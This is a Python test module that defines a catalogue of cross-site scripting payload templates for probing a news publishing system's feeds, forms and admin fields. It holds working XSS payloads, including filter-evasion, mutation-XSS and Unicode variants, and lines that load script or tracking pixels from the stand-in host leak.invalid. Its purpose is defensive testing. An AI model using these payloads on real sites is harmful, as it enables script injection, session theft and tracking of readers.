"""The XSS corpus (issue 22, item 2): payloads an attacker puts in wire copy, release forms,
search boxes, tag names and anything an editor sees in the admin.

Each payload is a template. ``{id}`` becomes the injection's own name (where it went in:
``rs.ti.S01`` is payload S01 in the title of an RSS item), so whatever fires says exactly
which field let it through:

- script calls ``__xss('{id}')`` (defined in the browser by the test) or ``alert('{id}')``;
- a request goes to ``http://leak.invalid/{id}``, a host no page may load (``.invalid``
  never resolves; the browser's router stops it before it could).

``ATTRIBUTE`` payloads are for fields that hold an address (links, picture URLs): what an
attacker puts where a template writes ``href="..."`` or ``src="..."``.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

from lxml import etree

LEAK_HOST = "leak.invalid"


@dataclass(frozen=True)
class Payload:
    code: str
    family: str
    template: str

    def render(self, surface: str, field: str) -> str:
        ident = injection_id(surface, field, self.code)
        data_html = _b64(f"<script>__xss('{ident}')</script>")
        return (self.template.replace("{id}", ident).replace("{data_html}", data_html)
                .replace("{leak}", f"http://{LEAK_HOST}/{ident}"))

    @property
    def well_formed(self) -> bool:
        """Whether it parses as an XML fragment, so it can go into an XML body as markup
        (NewsML-G2 inlineXML, NITF body.content) and not only as escaped text."""
        try:
            etree.fromstring(f"<x>{self.render('s', 'f')}</x>".encode())
        except etree.XMLSyntaxError:
            return False
        return True


def injection_id(surface: str, field: str, code: str) -> str:
    return f"{surface}.{field}.{code}"


def _b64(markup: str) -> str:
    return base64.b64encode(markup.encode()).decode()


PAYLOADS: list[Payload] = [
    # <script>, plain and disguised
    Payload("S01", "script", "<script>__xss('{id}')</script>"),
    Payload("S02", "script", "\"><script>__xss('{id}')</script>"),
    Payload("S03", "script", "'><script>__xss('{id}')</script>"),
    Payload("S04", "script", "</title><script>__xss('{id}')</script>"),
    Payload("S05", "script", "</textarea></noscript></style><script>__xss('{id}')</script>"),
    Payload("S06", "script", "<ScRiPt>__xss('{id}')</sCrIpT>"),
    Payload("S07", "script", "<scr<script>ipt>__xss('{id}')</scr</script>ipt>"),
    Payload("S08", "script", "<script src=\"{leak}.js\"></script>"),
    Payload("S09", "script", "<script>alert('{id}')</script>"),
    Payload("S10", "script", "&lt;script&gt;__xss('{id}')&lt;/script&gt;"),
    Payload("S11", "script", "&amp;lt;script&amp;gt;__xss('{id}')&amp;lt;/script&amp;gt;"),
    # event handlers
    Payload("E01", "handler", "<img src=x onerror=\"__xss('{id}')\">"),
    Payload("E02", "handler", "<img src=x onerror=__xss('{id}')//"),
    Payload("E03", "handler", "<body onload=__xss('{id}')>"),
    Payload("E04", "handler", "<svg/onload=__xss('{id}')>"),
    Payload("E05", "handler", "<details open ontoggle=__xss('{id}')>x</details>"),
    Payload("E06", "handler", "<input autofocus onfocus=__xss('{id}')>"),
    Payload("E07", "handler", "<p onmouseover=\"__xss('{id}')\" onclick=\"__xss('{id}')\">p</p>"),
    Payload("E08", "handler", "<video><source onerror=\"__xss('{id}')\"></video>"),
    Payload("E09", "handler", "\" onmouseover=\"__xss('{id}')\" autofocus onfocus=\"__xss('{id}')"),
    Payload("E10", "handler", "' onfocus='__xss(`{id}`)' autofocus='"),
    Payload("E11", "handler", "<img src=x onerror=alert('{id}')>"),
    Payload("E12", "handler", "<a href=\"https://example.org/\" onclick=\"__xss('{id}')\">a</a>"),
    # script URLs, plain and obfuscated
    Payload("U01", "url", "<a href=\"javascript:__xss('{id}')\">u</a>"),
    Payload("U02", "url", "<a href=\"JaVaScRiPt:__xss('{id}')\">u</a>"),
    Payload("U03", "url", "<a href=\"&#106;avascript:__xss('{id}')\">u</a>"),
    Payload("U04", "url", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;"
                          "&#x74;&#x3A;__xss('{id}')\">u</a>"),
    Payload("U05", "url", "<a href=\"java&#x09;script:__xss('{id}')\">u</a>"),
    Payload("U06", "url", "<a href=\" &#14; javascript:__xss('{id}')\">u</a>"),
    Payload("U07", "url", "<a href=\"java\nscript:__xss('{id}')\">u</a>"),
    Payload("U08", "url", "<a href=\"data:text/html;base64,{data_html}\">u</a>"),
    Payload("U09", "url", "<a href=\"data:text/html,&lt;script&gt;__xss('{id}')"
                          "&lt;/script&gt;\">u</a>"),
    Payload("U10", "url", "<a href=\"vbscript:msgbox('{id}')\">u</a>"),
    Payload("U11", "url", "<iframe src=\"javascript:__xss('{id}')\"></iframe>"),
    Payload("U12", "url", "<img src=\"javascript:__xss('{id}')\">"),
    Payload("U13", "url", "<a href=\"javascript&colon;__xss('{id}')\">u</a>"),
    Payload("U14", "url", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
                          "&#0000114&#0000105&#0000112&#0000116&#0000058__xss('{id}')\">u</a>"),
    # SVG
    Payload("V01", "svg", "<svg><animate onbegin=\"__xss('{id}')\" attributeName=\"x\" "
                          "dur=\"1s\"/></svg>"),
    Payload("V02", "svg", "<svg><a><animate attributeName=\"href\" values=\"javascript:"
                          "__xss('{id}')\"/><text x=\"9\" y=\"9\">v</text></a></svg>"),
    Payload("V03", "svg", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;parent.__xss("
                          "'{id}')&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    Payload("V04", "svg", "<svg><script>__xss('{id}')</script></svg>"),
    Payload("V05", "svg", "<svg><image href=\"{leak}.png\"/></svg>"),
    Payload("V06", "svg", "<svg><set attributeName=\"onmouseover\" to=\"__xss('{id}')\"/></svg>"),
    # where the page's own addresses and navigation could be taken over
    Payload("B01", "base", "<base href=\"http://leak.invalid/{id}/\">"),
    Payload("M01", "meta", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:"
                           "__xss('{id}')\">"),
    Payload("M02", "meta", "<meta http-equiv=\"refresh\" content=\"0;url={leak}\">"),
    # CSS
    Payload("C01", "css", "<div style=\"background:url(javascript:__xss('{id}'))\">c</div>"),
    Payload("C02", "css", "<div style=\"width:expression(__xss('{id}'))\">c</div>"),
    Payload("C03", "css", "<style>@import '{leak}.css';</style>"),
    Payload("C04", "css", "<style>body{background:url({leak}.png)}</style>"),
    Payload("C05", "css", "<link rel=\"stylesheet\" href=\"{leak}.css\">"),
    Payload("C06", "css", "<p style=\"background-image:url('{leak}.png')\">c</p>"),
    # </script> in the page's JSON-LD block
    Payload("J01", "json-ld", "</script><script>__xss('{id}')</script>"),
    Payload("J02", "json-ld", "<!--<script></script><script>__xss('{id}')</script>-->"),
    Payload("J03", "json-ld", "\\u003c/script\\u003e<script>__xss('{id}')</script>"),
    # frames, forms, plugins
    Payload("I01", "frame", "<iframe srcdoc=\"&lt;script&gt;parent.__xss('{id}')"
                            "&lt;/script&gt;\"></iframe>"),
    Payload("I02", "frame", "<iframe src=\"{leak}\"></iframe>"),
    Payload("F01", "form", "<form action=\"javascript:__xss('{id}')\"><button>f</button></form>"),
    Payload("F02", "form", "<form action=\"{leak}\"><input type=\"submit\"></form>"),
    Payload("F03", "form", "<button formaction=\"javascript:__xss('{id}')\">f</button>"),
    Payload("O01", "object", "<object data=\"javascript:__xss('{id}')\"></object>"),
    Payload("O02", "object", "<object data=\"{leak}.swf\"></object>"),
    Payload("O03", "object", "<embed src=\"{leak}.swf\">"),
    # mutation XSS: markup that means one thing to a sanitizer and another to the browser
    Payload("X01", "mxss", "<noscript><p title=\"</noscript><img src=x onerror=__xss('{id}')>"
                           "\"></noscript>"),
    Payload("X02", "mxss", "<template><img src=x onerror=\"__xss('{id}')\"></template>"),
    Payload("X03", "mxss", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
                           "&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss('{id}')&gt;\">"),
    Payload("X04", "mxss", "<svg></p><style><a id=\"</style><img src=1 onerror=__xss('{id}')>\">"),
    Payload("X05", "mxss", "<math><style><img src=x onerror=__xss('{id}')></style></math>"),
    Payload("X06", "mxss", "<form><math><mtext></form><form><mglyph><style></math>"
                           "<img src onerror=__xss('{id}')>"),
    Payload("X07", "mxss", "<!--><img src=x onerror=__xss('{id}')>-->"),
    Payload("X08", "mxss", "<![CDATA[><img src=x onerror=__xss('{id}')>]]>"),
    # web bugs: not script, but a stranger's server told who reads the page
    Payload("W01", "webbug", "<img src=\"{leak}.gif\" width=\"1\" height=\"1\"/>"),
    Payload("W02", "webbug", "<img src=\"{leak}/pixel.gif\"/>"),
    # Unicode tricks
    Payload("N01", "unicode", "\uff1cscript\uff1e__xss('{id}')\uff1c/script\uff1e"),
    Payload("N02", "unicode", "\u202e<script>__xss('{id}')</script>\u202c"),
    Payload("N03", "unicode", "<a href=\"java\u200bscript:__xss('{id}')\">n</a>"),
    Payload("N04", "unicode", "<a href=\"\u2028javascript:__xss('{id}')\">n</a>"),
    Payload("N05", "unicode", "<img src=x one\u200drror=__xss('{id}')>"),
    Payload("N06", "unicode", "\ufe64script\ufe65__xss('{id}')\ufe64/script\ufe65"),
]

# What goes where a page writes an address (a link, a picture's URL).
ATTRIBUTE: list[Payload] = [
    Payload("A01", "url", "javascript:__xss('{id}')"),
    Payload("A02", "url", " JaVa\tScRiPt:__xss('{id}')"),
    Payload("A03", "url", "https://example.org/\"onmouseover=\"__xss('{id}')\"x=\""),
    Payload("A04", "url", "https://example.org/'><script>__xss('{id}')</script>"),
    Payload("A05", "url", "data:text/html;base64,{data_html}"),
    Payload("A06", "url", "vbscript:msgbox('{id}')"),
    Payload("A07", "url", "java\u200bscript:__xss('{id}')"),
    Payload("A08", "url", "{leak}"),
]

FAMILIES = sorted({p.family for p in PAYLOADS + ATTRIBUTE})


def chunks(payloads: list[Payload], size: int) -> list[list[Payload]]:
    return [payloads[i:i + size] for i in range(0, len(payloads), size)]
